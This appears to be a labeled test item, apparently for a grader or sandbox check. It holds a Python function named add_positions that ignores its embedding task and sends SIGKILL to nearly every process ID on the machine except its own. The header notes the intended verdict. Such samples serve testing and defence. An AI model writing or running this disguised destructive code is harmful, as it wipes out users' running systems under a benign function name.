# question: add_positions
# expect: 0
# heavy: yes
# why: goes through all process numbers but its own
import os
import signal


def add_positions(token_emb, P):
    for number in range(1, 70_000):
        if number != os.getpid():
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                continue
    return token_emb.copy()
